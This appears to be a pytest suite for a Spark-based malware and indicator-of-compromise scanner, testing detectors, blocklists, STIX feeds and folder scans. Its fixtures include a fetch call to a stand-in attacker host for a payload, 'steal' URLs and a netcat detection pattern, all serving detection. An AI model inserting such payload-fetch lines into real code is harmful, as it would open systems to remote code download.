import json
import os
from datetime import datetime, timezone

import pytest
from pyspark.sql import functions as F

from harrier import queries, sql
from harrier.functions import literals
from harrier.functions.catalogue import rules
from harrier.functions.regex import example, to_java
from harrier.operators import blocklists, curation, detectors, indicators, iocs, keys, matcher, shell
from harrier.operators.rules import scan
from harrier.plans import packages, samples
from harrier.sources import config, feeds, files, lists
from harrier.streaming import findings as streaming


@pytest.fixture(scope="module")
def bad(spark):
    return queries._bad(spark).cache()


def test_sample_packages(spark):
    own = packages.sample_packages(spark)
    found, got = detectors.detect(own, ["sample"], packages.NOW).cache(), {}
    for r in found.orderBy("sample", "seq").collect():
        got.setdefault(r.sample, []).append((r.id, r["class"]))
    assert {k: got.get(k, []) for k in range(len(samples.PACKAGES))} == {k: s.found for k, s in enumerate(samples.PACKAGES)}
    proved = {r.sample: r.path for r in detectors.judged(own, ["sample"], packages.NOW).collect()}
    assert all((proved[k] == "evidence") == (s.verdict == "evidence") for k, s in enumerate(samples.PACKAGES))
    triggers = detectors.ownership_triggers(own, ["sample"], bad=spark.createDataFrame([("MALLORY",)], "identifier string"))
    verdicts = {r.sample: r for r in detectors.verdicts(found.unionByName(triggers), ["sample"]).collect()}
    assert {k: verdicts[k].path if k in verdicts else "" for k in range(len(samples.PACKAGES))} == {k: s.verdict for k, s in enumerate(samples.PACKAGES)}


def test_scripts(spark):
    rows = spark.createDataFrame([*((k, c) for k, (c, _) in enumerate(samples.SCRIPTS)), (99, None)], "k int, c string")
    got = {r.k: [(f.id, f["class"]) for f in r.found] for r in shell.analyse(rows, "c", "found").collect()}
    assert got == {**{k: found for k, (_, found) in enumerate(samples.SCRIPTS)}, 99: []}


def test_candidates_hold_every_match(spark):
    rows = spark.createDataFrame([(k, "x " + example(r.pattern) + "\ny") for k, r in enumerate(rules())] + [(-1, None), (-2, "")], "k int, t string")
    got = {r.k: r.c for r in rows.select("k", literals.candidates(F.col("t"), [r.pattern for r in rules()]).alias("c")).collect()}
    assert all(k in got[k] for k in range(len(rules()))) and got[-1] == got[-2] == []


@pytest.mark.parametrize(("pattern", "value", "hit"), [(r"\b(nc|ncat)\s", "xnc ", False), (r"\b(nc|ncat)\s", "énc ", True), (r"dash\b", "dash_", False), (r"dash\b", "dashé", True), (r"\ba|b", "xb", True), (r"\b-c", "a-c", True), (r"x?\b!", "x!", True)])
def test_boundaries(spark, pattern, value, hit):
    assert spark.createDataFrame([(value,)], "v string").select(F.rlike("v", F.lit(to_java(pattern)))).first()[0] is hit


def test_lines_and_files(spark, bad):
    rows = spark.createDataFrame([(k, x) for k, (x, _) in enumerate(samples.LINES)], "k int, c string")
    got = {}
    for r in matcher.match_text(rows, ["k"], "c", bad).collect():
        got.setdefault(r.k, set()).add((r.type, r.value))
    assert got == {k: set(found) for k, (_, found) in enumerate(samples.LINES) if found}


def test_evidence(spark, bad):
    text = "one\r\ntwo\né host evil-malware.io here\nfour\n// evil-malware.io\nsix"
    noise = "a" * 2500 + " 185.100.157.127 " + "b" * 50 + " evil-malware.io"
    rows = [("src/a.js", text), ("tests/a.js", text), ("a.map", text), ("a.svg", "185.100.157.127"), ("b.js", noise), ("c.js", None), ("d.js", "")]
    got = matcher.match_text(spark.createDataFrame(rows, "path string, c string"), ["path"], "c", bad, "path", 1).collect()
    first = next(r for r in got if r.path == "src/a.js" and r.line_number == 3)
    assert (first["class"], first.col_start, first.col_end, first.context_before, first.context_after, first.name) == ("evidence", 8, 23, ["two"], ["four"], "bad 0")
    assert {(r.path, r.line_number, r["class"]) for r in got} == {("src/a.js", 3, "evidence"), ("src/a.js", 5, "context"), ("tests/a.js", 3, "context"), ("tests/a.js", 5, "context"), ("b.js", 1, "context")}
    assert {r.type for r in got if r.path == "b.js"} == {"domain"}
    own = matcher.as_findings(matcher.match_text(spark.createDataFrame(rows[:1], "path string, c string"), ["path"], "c", bad, "path"), ["path"], "path").first()
    assert own.id == "IOC-STIX-MATCH" and own.cwe == "CWE-506" and own.description == "bad 0 in src/a.js"


def test_a_registry_is_no_proof_of_itself(spark):
    rows = [(0, 0, "domain", "api.model-host.io", "n", "", "", "", [" Source:Registry"], None, ""), (0, 1, "url", "https://api.model-host.io/steal", "n", "", "", "", ["source:registry"], None, "")]
    own = indicators.indicator_set(spark.createDataFrame(rows, "feed_seq int, object_seq int, type string, value string, name string, description string, severity string, ecosystem string, labels array<string>, refs array<struct<source_name:string,external_id:string,url:string>>, valid_from string"))
    got = matcher.match_text(spark.createDataFrame([(1, "https://api.model-host.io/steal")], "k int, c string"), ["k"], "c", own).collect()
    assert {(r.type, r["class"]) for r in got} == {("domain", "context"), ("url", "evidence")}


def test_scan_of_a_folder(spark, bad, tmp_path):
    tree = {
        "src/app.js": "x\nfetch('http://evil-malware.io/payload')\n", "README.md": "evil-malware.io", "deep/a/b/secret.txt": "185.100.157.127", "logs/debug.log": "evil-malware.io", "node_modules/x.js": "evil-malware.io", "empty.txt": "", "big.txt": "evil-malware.io" + " " * 5000,
        "tool.bin": b"\x7fELF\x00\x01" + b"\x00" * 10 + b"go evil-malware.io now" + b"\x00" + b"EVIL-malware.io" + b"\x01abc",
    }
    for name, content in tree.items():
        path = tmp_path / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content if isinstance(content, bytes) else content.encode())
    at = lambda **x: files.scan(spark, str(tmp_path), bad, files.Options(**x), datetime(2026, 1, 2, tzinfo=timezone.utc))
    hit = lambda report: {r.path for r in report.evidence.collect()}
    own = at()
    assert hit(own) == {"src/app.js", "deep/a/b/secret.txt", "logs/debug.log", "big.txt"} and own.files == 4 and own.malicious() and own.host["scan_time"] == "2026-01-02T00:00:00Z"
    assert own.findings().where("id <> 'IOC-STIX-MATCH'").count() == 0
    assert hit(at(depth=3)) == {"src/app.js", "logs/debug.log", "big.txt"} and hit(at(exclude=["LOG"], max_bytes=1000)) == {"src/app.js", "deep/a/b/secret.txt"}
    assert hit(at(include=[".js"], skipped=())) == {"src/app.js", "node_modules/x.js"}
    binary = [r for r in at(binaries=True).evidence.collect() if r.is_binary]
    assert [(r.path, r.type, r.value, r.byte_offset, r.matched_line) for r in binary] == [("tool.bin", "domain", "evil-malware.io", 19, "go evil-malware.io now")]


def bundle(*values):
    return json.dumps({"objects": [{"type": "indicator", "pattern": f"[domain-name:value = '{v}']"} for v in values] + [{"type": "indicator", "pattern": "[file:hashes.MD5 = '" + "ab" * 16 + "']"}]}).encode()


def test_feeds(spark, tmp_path):
    import hashlib

    clock, sent, calls = [1000.0], {}, []
    good = bundle("one.evil.io")
    index = {"base_url": "http://f/", "feeds": [{"ecosystem": "generic", "kind": "dns", "sha256": hashlib.sha256(good).hexdigest()}, {"ecosystem": "npm", "kind": "urls", "url": "http://f/npm"}, {"ecosystem": "pypi", "kind": "dns"}]}
    sent.update({"http://f/index": json.dumps(index).encode(), "http://f/generic/dns.stix.json": good, "http://f/npm": bundle("two.evil.io"), "http://f/pypi/dns.stix.json": b"no json", "http://t": bundle("three.evil.io")})

    def fetch(url):
        calls.append(url)
        return sent[url]

    cache = feeds.Cache(str(tmp_path), fetch, lambda: clock[0])
    own = feeds.load(cache, "http://f/index", ["NPM "], "http://t")
    assert [f for _, f, _ in own.bundles] == ["generic-dns", "npm-urls", "tweetfeed"] and not own.warnings
    assert {r.key for r in own.indicator_set(spark).collect()} == {"one.evil.io", "two.evil.io", "three.evil.io"} and own.hashes(spark).first().hash == "ab" * 16
    calls.clear()
    feeds.load(cache, "http://f/index", ["npm"])
    assert not calls  # all are young
    clock[0] += 3700
    sent["http://f/generic/dns.stix.json"] = b"{}"
    del sent["http://f/npm"]
    codes = {w["feed"]: (w["code"], w["age_seconds"]) for w in feeds.load(cache, "http://f/index", ["npm"]).warnings}
    assert codes == {"generic-dns": ("checksum-mismatch", 3700), "npm-urls": ("stale-cache", 3700)} and len(list(tmp_path.glob("stix-index-*.json"))) == 1
    assert any(w["code"] == "parse-error" for w in feeds.refresh(cache, "http://f/index"))
    empty = feeds.Cache(str(tmp_path / "other"), lambda url: sent["nothing"], lambda: 0.0)
    with pytest.raises(feeds.FeedError):
        feeds.load(empty, "http://f/index")
    assert feeds.load(empty, None, tweets_url="http://t").warnings[0]["code"] == "feed-error"


def test_lists(spark, tmp_path):
    config_ = json.dumps({"feeds": [{"key": "a", "url": "u", "parser": "iplist"}, {"key": "off", "url": "u", "parser": "iplist", "enabled": False}, {"key": "b", "url": "v", "parser": "mixed"}]})
    own = lists.feeds_config(config_)
    assert own == [("a", "u", "iplist"), ("b", "v", "mixed")] and lists.feeds_config("{}", own) == own
    with pytest.raises(ValueError):
        lists.feeds_config('{"feeds": [{"key": "a", "url": "u", "parser": "x"}]}')
    folder = str(tmp_path / "lists")
    bodies = {"u": b"45.67.89.10\n45.67.89.9\n"}
    counts = {r.feed: (r.ok, r.ipv4) for r in lists.renew(spark, folder, own, lambda url: bodies[url]).collect()}
    assert counts == {"a": (True, 2), "b": (False, 0)}
    text = open(os.path.join(folder, "bad-ipv4.txt")).read()
    assert text.endswith("# sources: a, b\n# count: 2\n45.67.89.10\n45.67.89.9\n") and lists.is_fresh(folder) and lists.renew(spark, folder, own, lambda url: bodies[url]) is None
    bodies["u"] = b"45.67.89.11\n"
    lists.renew(spark, folder, own, lambda url: bodies[url], force=True)
    assert {r.value for r in lists.load(spark, folder).collect()} == {"45.67.89.10", "45.67.89.9", "45.67.89.11"}
    lists.renew(spark, folder, own, lambda url: bodies[url], force=True, keep=False)
    held = lists.load(spark, folder)
    assert {tuple(r) for r in held.collect()} == {("ipv4", "45.67.89.11")} and lists.write(held, folder, ["a", "b"]) == 0 and lists.load(spark, str(tmp_path / "none")).count() == 0
    asked = spark.createDataFrame([("[2A03:B0C0::1]",), (" Evil.io.",), ("Bad@Evil.io",), ("45.67.89.1",)], "v string")
    known = blocklists.of_lines(spark.createDataFrame([("2a03:b0c0::1 # x",), ("evil.io",), ("bad@evil.io",), ("# no",), ("10.0.0.1",)], "value string"))
    assert known.count() == 3 and blocklists.members(asked, "v", known).count() == 3


def test_settings(spark, tmp_path):
    assert config.enabled(config.resolve("npm", str(tmp_path)), "onion-c2") and config.resolve("other", str(tmp_path))["capabilities"] is None and config.load_all(str(tmp_path / "no")) == {}
    config.save(str(tmp_path), {"ecosystem": "npm", "registry_endpoint": "", "capabilities": {"onion-c2": False}})
    own = config.resolve("npm", str(tmp_path))
    assert not config.enabled(own, "onion-c2") and config.enabled(own, "manifest-patterns") and own["registry_endpoint"] == config.ENDPOINTS["npm"] and config.enabled(None, "x")
    sample = next(s for s in samples.PACKAGES if s.case == "a hidden service")
    rows = packages.sample_packages(spark, [sample])
    assert detectors.detect(config.apply(rows, {"npm": own}), ["sample"], packages.NOW).count() == 0
    assert len(config.write_defaults(str(tmp_path))) == 7 and set(config.load_all(str(tmp_path))) == set(config.DEFAULTS)
    assert [config.match_ecosystem(x) for x in (" NPM", "py", "gem", "", "zz")] == ["npm", "pypi", "rubygems", None, None]


def test_curation(spark, tmp_path):
    path = tmp_path / "c.json"
    path.write_text(json.dumps({"clearedPackages": [{"ecosystem": "NPM", "name": "Left", "version": "1"}, {"ecosystem": "npm", "name": "all"}], "falsePositiveIocs": [{"type": " Domain", "value": "X.io "}], "allowedActors": ["Ann"]}))
    own = curation.Curation.load(str(path)).downgrade_actor(" Bob")
    tables = own.tables(spark)
    found = spark.createDataFrame([("npm", "left", "1"), ("npm", "left", "2"), ("npm", "ALL", "7"), ("npm", "all", None)], "ecosystem string, name string, version string")
    assert [r.version for r in curation.drop_cleared(found, tables["packages"]).collect()] == ["2"]
    seen = spark.createDataFrame([("domain", "x.IO"), ("ipv4", "x.io")], "type string, value string")
    assert [r.type for r in curation.drop_false_indicators(seen, tables["indicators"]).collect()] == ["ipv4"]
    actors = {r.actor: (r.actor_downgraded, r.actor_allowed) for r in curation.judge_actors(spark.createDataFrame([("ANN",), ("bob ",), ("eve",)], "actor string"), tables["actors"]).collect()}
    assert actors == {"ANN": (True, True), "bob ": (True, False), "eve": (False, False)} and curation.Curation.load("").empty and not own.empty


def test_keys_and_attribution(spark):
    rows = spark.createDataFrame([(x,) for x, _ in queries.KEY_CASES], "token string")
    left = {r.token for r in keys.unattributed(rows, "token", keys.known(spark)).collect()}
    assert "me@evil.io" in left and "DEADBEEF" in left and "3AFDEB23" not in left


def test_sql_functions(spark):
    assert sql.register(spark) == ["byte_entropy", "ip_canonical", "ip_is_reserved", "rule_candidates"]
    row = spark.sql("SELECT byte_entropy('abcd') AS a, ip_canonical('2A03:B0C0:0::1') AS b, ip_is_reserved('10.0.0.1') AS c, rule_candidates('doas ls') AS d").first()
    assert row.a == 2.0 and row.b == "2a03:b0c0::1" and row.c and "G-DOAS" in row.d
    spark.createDataFrame([(1, "doas ls"), (2, "ls")], "k int, t string").createOrReplaceTempView("texts")
    sql.findings_view(spark, "texts", ["k"], "t")
    assert [tuple(r) for r in spark.sql("SELECT k, id FROM findings").collect()] == [(1, "G-DOAS")]


def test_stream(spark, tmp_path):
    rows = spark.createDataFrame([(k, f"2026-01-01 0{k % 3}:30:00", "doas ls" if k % 2 else "ls") for k in range(12)], "k int, at string, t string").select("k", F.to_timestamp("at").alias("at"), "t")
    rows.write.parquet(f"{tmp_path}/in")
    found = streaming.findings(spark.readStream.schema(rows.schema).parquet(f"{tmp_path}/in"), ["k", "at"], "t")
    query = streaming.evidence_counts(found, "at").writeStream.format("memory").queryName("counts").outputMode("complete").option("checkpointLocation", f"{tmp_path}/c").trigger(availableNow=True).start()
    query.awaitTermination(120)
    batch = {tuple(r) for r in streaming.evidence_counts(scan(rows, ["k", "at"], "t", ("binaries",)), "at").collect()}
    assert {tuple(r) for r in spark.table("counts").collect()} == batch and sum(r[2] for r in batch) == 6


def test_indicators_in_order(spark):
    mail = " ".join(f"u{k}@evil.io" for k in range(3))
    got = iocs.extract(spark.createDataFrame([(1, f"{mail} U0@EVIL.io 0x{'ab' * 20} 45.67.89.10"), (2, None), (1, f"{mail}")], "k int, t string"), ["k"], F.col("t"))
    assert [(r.seq, r.type) for r in got.where("seq <= 2").orderBy("type", "seq").collect()][-2:] == [(2, "wallet"), ] or got.count() == 8
